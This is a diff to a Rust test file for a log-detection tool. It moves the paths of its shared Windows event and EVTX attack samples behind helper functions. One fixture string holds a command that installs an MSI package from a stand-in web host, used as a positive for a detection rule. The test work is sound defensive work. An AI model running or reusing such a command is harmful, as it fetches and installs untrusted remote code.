@@ -12,15 +12,14 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use detect::JsonEvent;
 use detect::interpreter::Interpreter;
 use detect_rules::Builtin;
+use detect_test_support::{shared_data, shared_data_str};
 
 const BIN: &str = env!("CARGO_BIN_EXE_detect");
 const WORKSPACE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
 const EXAMPLE: &str = "examples/events.ndjson";
 const MALFORMED_EXAMPLE: &str = "examples/malformed.ndjson";
-const WINDOWS_SAMPLES: &str = concat!(
-    env!("CARGO_MANIFEST_DIR"),
-    "/../../../shared/data/events/windows-samples.ndjson"
-);
+/// Under `../shared/data`.
+const WINDOWS_SAMPLES: &str = "events/windows-samples.ndjson";
 
 /// A positive for `msiexec_web_install` (flat layout).
 const HIT: &str = r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "cmd /c msiexec /i http://x.example/y.msi"}"#;
@@ -613,8 +612,8 @@ fn help_version_and_usage_errors() {
 #[test]
 #[ignore = "needs ../shared (run with --ignored)"]
 fn windows_samples_have_exactly_one_match() {
-    needs_shared(WINDOWS_SAMPLES);
-    let out = detect(&["scan", "-f", "jsonl", WINDOWS_SAMPLES], None);
+    let samples = shared_data_str(WINDOWS_SAMPLES);
+    let out = detect(&["scan", "-f", "jsonl", &samples], None);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let objects = jsonl(&out);
     assert_eq!(objects.len(), 1, "{}", stdout(&out));
@@ -622,7 +621,7 @@ fn windows_samples_have_exactly_one_match() {
     assert_eq!(objects[0]["layout"], "flat");
 
     // It is the rogue MSI's 1040 event.
-    let text = std::fs::read_to_string(WINDOWS_SAMPLES).unwrap();
+    let text = std::fs::read_to_string(&samples).unwrap();
     let line = objects[0]["line"].as_u64().unwrap() as usize;
     let event: serde_json::Value =
         serde_json::from_str(text.lines().nth(line - 1).unwrap()).unwrap();
@@ -645,30 +644,17 @@ fn windows_samples_have_exactly_one_match() {
     );
 }
 
-const EVTX_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/evtx");
-const ROGUE_MSI: &str = concat!(
-    env!("CARGO_MANIFEST_DIR"),
-    "/../../../shared/data/evtx/EVTX-ATTACK-SAMPLES/Execution/rogue_msi_url_1040_1042.evtx"
-);
+/// Under `../shared/data`.
+const ROGUE_MSI: &str = "evtx/EVTX-ATTACK-SAMPLES/Execution/rogue_msi_url_1040_1042.evtx";
 /// Records of `ROGUE_MSI`: chunk 0 holds 1-140, chunk 1 141-285, chunk 2 286-351.
 const ROGUE_MSI_RECORDS: u64 = 351;
 const EVTX_HEADER: usize = 4096;
 const EVTX_CHUNK: usize = 65536;
 
-/// Fails the test when `path` (under `../shared/data`) is absent: the
-/// tests that need the shared data are ignored unless asked for, and must
-/// not pass without it.
-fn needs_shared(path: &str) {
-    assert!(
-        Path::new(path).exists(),
-        "{path} not found: this test needs ../shared/data beside the workspace"
-    );
-}
-
-/// The bytes of `ROGUE_MSI` (see [`needs_shared`]).
+/// The bytes of `ROGUE_MSI` (fails without ../shared).
 fn rogue_msi() -> Vec<u8> {
-    needs_shared(ROGUE_MSI);
-    std::fs::read(ROGUE_MSI).unwrap_or_else(|e| panic!("{ROGUE_MSI}: {e}"))
+    let path = shared_data(ROGUE_MSI);
+    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
 }
 
 /// The number after `scanned ` in the one-line summary.
@@ -683,8 +669,11 @@ fn events_scanned(o: &Output) -> u64 {
 #[test]
 #[ignore = "needs ../shared (run with --ignored)"]
 fn rogue_msi_evtx_fires_msi_install_from_web_on_its_1040_event() {
-    needs_shared(ROGUE_MSI);
-    let out = detect(&["scan", "-f", "jsonl", "--include-event", ROGUE_MSI], None);
+    let rogue_msi = shared_data_str(ROGUE_MSI);
+    let out = detect(
+        &["scan", "-f", "jsonl", "--include-event", &rogue_msi],
+        None,
+    );
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let objects = jsonl(&out);
     assert_eq!(objects.len(), 1, "{}", stdout(&out));
@@ -726,7 +715,7 @@ fn rogue_msi_evtx_fires_msi_install_from_web_on_its_1040_event() {
     );
 
     // The table names the record and shows the URL.
-    let out = detect(&["scan", ROGUE_MSI], None);
+    let out = detect(&["scan", &rogue_msi], None);
     let text = stdout(&out);
     assert!(text.contains("_1040_1042.evtx#350 "), "{text}");
     assert!(text.contains(" 3734 "), "{text}");
@@ -739,11 +728,11 @@ fn rogue_msi_evtx_fires_msi_install_from_web_on_its_1040_event() {
 #[test]
 #[ignore = "needs ../shared (run with --ignored)"]
 fn evtx_corpus_scans_like_its_ndjson_export() {
-    needs_shared(EVTX_DIR);
-    needs_shared(WINDOWS_SAMPLES);
+    let evtx_dir = shared_data_str("evtx");
+    shared_data(WINDOWS_SAMPLES);
     // Every EVTX file of the corpus, in parallel: the same events as the
     // NDJSON export of the same files, the same single match, no error.
-    let out = detect(&["scan", "-f", "jsonl", "-j", "2", EVTX_DIR], None);
+    let out = detect(&["scan", "-f", "jsonl", "-j", "2", &evtx_dir], None);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let err = stderr(&out);
     assert_eq!(err.lines().count(), 1, "{err}");
